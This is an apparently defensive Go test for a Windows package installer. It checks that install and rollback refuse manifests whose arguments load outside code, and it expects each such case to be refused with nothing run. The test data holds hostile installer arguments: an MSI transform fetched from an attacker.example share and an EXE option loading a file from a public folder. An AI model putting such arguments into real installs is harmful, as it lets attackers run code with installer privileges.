//go:build !windows

package winpkg

import (
	"strings"
	"testing"

	"github.com/fettlehq/fettle/internal/deploy"
	"github.com/fettlehq/fettle/internal/inventory"
	"github.com/fettlehq/fettle/internal/patch"
	"github.com/fettlehq/fettle/internal/run"
)

// TestTrustRow11StrayCommand: even a signed catalog has no genuine file run
// with words that bring other code, and none is put back with such.
func TestTrustRow11StrayCommand(t *testing.T) {
	w := &world{listed: []inventory.Package{row("a", "2.0")}}
	in := New(run.OS{}, w.installer().stock, map[string]Kind{"msi": w, "exe": w})
	for _, install := range []patch.Manifest{
		{Kind: "msi", Argv: []string{`TRANSFORMS=\\attacker.example\share\evil.mst`}, UninstallArgv: []string{"{uninstall}"}},
		{Kind: "exe", Argv: []string{"{payload}", "/S"}, UninstallArgv: []string{"{payload}", `/LOADINF=C:\Users\Public\x`}},
	} {
		for _, op := range []deploy.Operation{deploy.Install, deploy.Rollback} {
			p := item("a", "3.0")
			if op == deploy.Rollback {
				p = item("a", "2.0")
			}
			p.Install = install
			job := w.job(t, p)
			job.Operation = op
			res, err := in.Install(t.Context(), job, silent)
			if err != nil || len(res.Refused) != 1 || !strings.Contains(res.Refused[0].Reason, "so nothing of it is run") || len(w.calls) > 0 {
				t.Errorf("%s of %+v: %v %+v %v", op, install, err, res, w.calls)
			}
		}
	}
}
